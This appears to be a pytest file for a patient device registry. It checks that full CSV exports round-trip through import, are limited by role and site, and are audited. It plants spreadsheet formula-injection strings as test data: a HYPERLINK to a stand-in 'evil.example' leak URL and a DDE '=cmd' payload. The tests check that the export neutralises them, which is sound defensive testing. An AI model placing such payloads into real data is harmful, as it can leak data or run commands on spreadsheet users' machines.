"""Full export → import into an empty registry → full export again gives identical tables."""

from __future__ import annotations

import zipfile

import pytest

from pdva.audit.context import audit_context
from pdva.audit.models import AuditEntry
from pdva.exports.importer import import_path
from pdva.exports.services import ExportRefused, run_export
from pdva.registry.models import Patient, PatientIdentity, Procedure, Site
from tests.exports.conftest import wipe_registry
from tests.factories import grant


def _members(path) -> dict[str, bytes]:  # type: ignore[no-untyped-def]
    with zipfile.ZipFile(path) as zf:
        return {name: zf.read(name) for name in zf.namelist() if name != "manifest.json"}


FORMULA_FAMILY_NAME = '=HYPERLINK("http://evil.example/?leak","x")'
FORMULA_DEVICE_MODEL = "=cmd|' /C calc'!A0"


def _plant_formulas(site) -> None:  # type: ignore[no-untyped-def]
    """Text a spreadsheet would run, typed into a family name and a device model (and a leading quote)."""
    patient = Patient.objects.filter(site=site, identity__isnull=False).order_by("pk").first()
    procedure = Procedure.objects.filter(patient__site=site).order_by("pk").first()
    with audit_context(label="test", reason="formula text"):
        identity = patient.identity
        identity.family_name = FORMULA_FAMILY_NAME
        identity.given_name = "'quoted"
        identity.save()
        procedure.device_model = FORMULA_DEVICE_MODEL
        procedure.device_manufacturer = "-Acme"
        procedure.save()


def test_full_export_round_trips_through_an_empty_registry(cohort, manager, sam, tmp_path):
    _plant_formulas(cohort[0])
    with audit_context(manager):
        first = run_export("full", manager, tmp_path / "first.zip")
    with zipfile.ZipFile(first.path) as zf:
        identities, procedures = (
            zf.read("patient_identities.csv").decode(),
            zf.read("procedures.csv").decode(),
        )
    assert "'=HYPERLINK(" in identities and "''quoted" in identities
    assert "'=cmd|" in procedures and "'-Acme" in procedures
    assert first.manifest["identifiers_included"] is True
    assert first.manifest["tables"]["patients"] == Patient.objects.filter(site=cohort[0]).count()
    assert first.manifest["tables"]["procedures"] > 0

    wipe_registry()
    assert not Patient.objects.exists() and not Site.objects.exists()

    report = import_path(first.path, user=sam)
    assert report.ok, report.as_csv()
    assert report.committed
    assert report.created["patients"] == first.manifest["tables"]["patients"]
    audit_reasons = set(
        AuditEntry.objects.filter(action="registry.patient.created").values_list("reason", flat=True)
    )
    assert f"import {report.sha256}" in audit_reasons

    grant(manager, "site_data_manager", Site.objects.get(ods_code=cohort[0].ods_code))
    manager._pdva_memberships = None
    with audit_context(manager):
        second = run_export("full", manager, tmp_path / "second.zip")

    before, after = _members(first.path), _members(second.path)
    assert sorted(before) == sorted(after)
    for name in before:
        assert before[name] == after[name], f"{name} differs after the round trip"
    assert first.manifest["files"] == second.manifest["files"]
    # The neutralising quotes came off on import: the registry holds the text as typed.
    names = {(i.family_name, i.given_name) for i in PatientIdentity.objects.all()}
    assert (FORMULA_FAMILY_NAME, "'quoted") in names
    assert (
        Procedure.objects.filter(device_model=FORMULA_DEVICE_MODEL, device_manufacturer="-Acme").count() == 1
    )
    # Derived values were recomputed on import, and agree.
    assert Procedure.objects.filter(age_at_procedure__isnull=False).exists()


def test_full_export_is_for_roles_with_full_export_only(cohort, rita, alice, nobody, tmp_path):
    for user in (rita, alice, nobody):
        with audit_context(label="test"), pytest.raises(ExportRefused):
            run_export("full", user, tmp_path / "x.zip")


def test_full_export_covers_only_the_users_sites(cohort, manager, tmp_path):
    with audit_context(manager):
        result = run_export("full", manager, tmp_path / "f.zip")
    with zipfile.ZipFile(result.path) as zf:
        sites = zf.read("sites.csv").decode().splitlines()
        patients = zf.read("patients.csv").decode()
    assert len(sites) == 2 and sites[1].startswith(cohort[0].ods_code)
    other = Patient.objects.filter(site=cohort[1]).values_list("registry_id", flat=True)
    assert other and not any(rid in patients for rid in other)


def test_every_export_is_audited(cohort, manager, tmp_path):
    with audit_context(manager):
        result = run_export("full", manager, tmp_path / "f.zip")
    entry = AuditEntry.objects.filter(action="exports.full.created").get()
    assert entry.actor_id == manager.pk
    assert entry.after["sha256"] == result.sha256
    assert entry.after["rows"] == result.rows > 0
